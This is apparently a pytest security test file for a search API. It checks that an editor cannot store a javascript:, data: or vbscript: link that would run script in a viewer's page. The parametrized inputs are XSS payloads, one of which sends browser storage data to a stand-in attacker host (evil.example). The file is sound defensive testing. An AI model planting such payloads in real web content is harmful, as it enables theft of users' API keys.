"""A stored address becomes a link in the web page: an editor must not be able to plant a ``javascript:`` link
that runs in a viewer's page (where the viewer's API key lives). Real app, real keys, real SQLite store."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from groundsearch.engine import Engine
from groundsearch.interfaces.api import create_app
from groundsearch.interfaces.api.auth import KeyStore
from groundsearch.settings import load_settings
from tests.api.live import serve

from .conftest import Server

# url_field names a keyword field: a deployment may do that (the schema does not demand a `url` type)
CONFIG = """
[collections.links]
kind = "records"
id_field = "id"
title = "{name}"
text_fields = ["notes"]
url_field = "link"
fields = { id = "keyword", name = "keyword", link = "keyword", notes = "text" }
"""


@pytest.fixture(scope="module")
def linked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    from groundsearch.models.factory import build_embedder
    from groundsearch.store.sqlite import SQLiteStore

    tmp = tmp_path_factory.mktemp("links")
    (tmp / "groundsearch.toml").write_text(CONFIG, encoding="utf-8")
    settings = load_settings(tmp / "groundsearch.toml", env={}, data_dir=str(tmp / "data"), embedder="hash")
    settings = settings.model_copy(update={"api": settings.api.model_copy(update={"local_mode": False})})
    embedder = build_embedder(settings)
    engine = Engine(settings, SQLiteStore.open(settings.data_dir / "store", dim=embedder.dim), embedder)
    keys = KeyStore(tmp / "keys.json")
    with engine, serve(create_app(engine, keys=keys)) as url:
        yield Server(url, engine, keys, tmp)


@pytest.mark.parametrize("link", ["javascript:fetch('//evil.example/?k='+localStorage.key)", "JaVaScRiPt:alert(1)",
                                  " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                  "vbscript:msgbox(1)"])
def test_attack_a_record_cannot_plant_a_script_link(linked: Server, link: str) -> None:
    """Before the fix the address went into the store as given and came back as the result's ``url`` — the
    page's ``<a href>`` — so a click ran the editor's script in the viewer's page."""
    with linked.client(linked.key("editor", "links")) as editor:
        r = editor.post("/api/items/records", json={"collection": "links", "records": [
            {"id": "x1", "name": "Quarterly report", "link": link, "notes": "the quarterly report of the team"}]})
        assert r.status_code in (200, 400), r.text
    with linked.client(linked.key("viewer", "links")) as viewer:
        hits = viewer.post("/api/search", json={"query": "quarterly report"}).json()["results"]
        browsed = viewer.get("/api/browse").json()["items"]
    urls = [h.get("url") for h in hits] + [b.get("url") for b in browsed]
    assert all(u is None or u.startswith(("http://", "https://")) for u in urls), urls


def test_an_http_link_in_a_keyword_url_field_still_works(linked: Server) -> None:
    with linked.client(linked.key("editor", "links-ok")) as editor:
        r = editor.post("/api/items/records", json={"collection": "links", "records": [
            {"id": "ok", "name": "Handbook", "link": "https://example.org/handbook", "notes": "the team handbook"}]})
        assert r.status_code == 200, r.text
    with linked.client(linked.key("viewer", "links-ok")) as viewer:
        hits = viewer.post("/api/search", json={"query": "handbook"}).json()["results"]
    assert [h["url"] for h in hits] == ["https://example.org/handbook"]
